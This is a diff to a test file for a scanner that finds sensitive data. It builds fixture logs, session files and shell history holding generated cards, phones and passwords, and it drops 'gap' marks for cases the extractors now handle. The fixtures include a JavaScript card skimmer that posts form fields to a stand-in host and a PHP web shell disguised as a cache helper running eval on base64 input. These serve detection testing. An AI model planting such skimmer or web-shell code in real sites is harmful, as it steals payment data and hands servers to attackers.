@@ -364,12 +364,11 @@ def log_cases():
     r = put(LOGS + "/access.log", "".join(lines).encode())
     key("access_log_emails", r, [], exact={"email": [a["email"], b["email"], d["email"]]}, verdict="sensitive")
     # the card written 4539%201234... and 4539+1234+..., the phone %28212%29+620-1097: each value once
-    # (gap: src/extract/urlquery.c decodes them; the pipeline's call is the lead's to merge,
-    # /tmp/s18/patches/hostile18-pipeline-urlquery.patch, which drops these marks)
-    key("access_log_card_pct20", r, [], planted={"credit_card": [b["card"]]}, gap=True)
-    key("access_log_card_plus", r, [], planted={"credit_card": [c["card"]]}, gap=True)
-    key("access_log_cards_once", r, [], exact={"credit_card": [b["card"], c["card"]]}, gap=True)
-    key("access_log_phone_pct", r, [], exact={"phone": [a["phone10"], d["phone10"]]}, gap=True)
+    # (src/extract/urlquery.c)
+    key("access_log_card_pct20", r, [], planted={"credit_card": [b["card"]]})
+    key("access_log_card_plus", r, [], planted={"credit_card": [c["card"]]})
+    key("access_log_cards_once", r, [], exact={"credit_card": [b["card"], c["card"]]})
+    key("access_log_phone_pct", r, [], exact={"phone": [a["phone10"], d["phone10"]]})
     # a rotated log, gzip'd
     e = person()
     rot = [access_line("203.0.113.9", "/", n=i) for i in range(20)]
@@ -396,8 +395,8 @@ def log_cases():
           % body)
     r = put(LOGS + "/error.log", el.encode())
     key("error_log_post_email", r, [], planted={"email": [g["email"]]})
-    # login%5Bpassword%5D=...: the form's password field, percent-encoded (gap: as the access log's)
-    key("error_log_post_password", r, [], exact={"password": [g_pw]}, gap=True)
+    # login%5Bpassword%5D=...: the form's password field, percent-encoded
+    key("error_log_post_password", r, [], exact={"password": [g_pw]})
     # PHP session files: sess_<id>, serialize handler "php" (name|value)
     h = person()
     sess = ('customer_id|i:77;email|s:%d:"%s";telephone|s:%d:"%s";cart|a:1:{s:9:"cc_number";s:16:"%s";}'
@@ -422,8 +421,8 @@ def log_cases():
         for i, b in enumerate((body, "newsletter=1&email=%s" % urllib.parse.quote(
             urllib.parse.quote(m2["email"], safe=""), safe=""))))
     r = put(WEB + "/var/log/modsec_audit.log", audit.encode())
-    key("modsec_emails", r, [], exact={"email": [m["email"], m2["email"]]}, verdict="sensitive", gap=True)
-    key("modsec_card_phone", r, [], exact={"credit_card": [m["card"]], "phone": [m["phone10"]]}, gap=True)
+    key("modsec_emails", r, [], exact={"email": [m["email"], m2["email"]]}, verdict="sensitive")
+    key("modsec_card_phone", r, [], exact={"credit_card": [m["card"]], "phone": [m["phone10"]]})
     # the shell history: the database password on the command line
     bh_pw, bh_pw2 = pw(), pw()
     r = put(HOME + "/.bash_history", ("cd public_html\nmysql -u shopuser -p%s shopuser_wp\n"
@@ -440,9 +439,8 @@ def skimmer_cases():
                         "em": p["email"]}, separators=(",", ":")) for p in vic]
     r = put(HTML + "/media/catalog/product/cache/1/image/.cache.dat",
             "".join(base64.b64encode(x.encode()).decode() + "\n" for x in recs).encode())
-    # gap: each line decodes to compact JSON (no blanks), which src/extract/b64blob.c's text test
-    # (words and spaces) refuses; /tmp/s18/patches/hostile18-b64blob-compact.patch takes it and drops the mark
-    key("skimmer_b64_lines", r, None, planted_under=pl(*vic, ssn=False, cc=True), verdict="sensitive", gap=True)
+    # each line decodes to compact JSON (no blanks): src/extract/b64blob.c takes text that opens as JSON
+    key("skimmer_b64_lines", r, None, planted_under=pl(*vic, ssn=False, cc=True), verdict="sensitive")
     # the skimmer itself: JavaScript with the exfil host, no data
     js = (b"(function(){var u='https://cdn-jquery-lib.test/collect';document.addEventListener('submit',function(e)"
           b"{var d={};[].forEach.call(e.target.elements,function(x){d[x.name]=x.value});"
@@ -462,7 +460,7 @@ def skimmer_cases():
              % ws_pw)
     ws = "<?php /* WP cache helper */ @eval(base64_decode('%s')); ?>\n" % base64.b64encode(inner.encode()).decode()
     r = put(HTML + "/wp-content/uploads/2014/11/wp-cache.php", ws.encode())
-    # gap: the payload is minified PHP (the b64blob patch above decodes it), and no rule reads a
+    # gap: the payload is minified PHP (src/extract/b64blob.c decodes it), and no rule reads a
     # password passed by position (mysqli_connect(host, user, PASSWORD, db), new PDO(dsn, user,
     # PASSWORD)): rules18's to add
     key("webshell_b64_password", r, None, planted_under={"password": [ws_pw]}, gap=True)
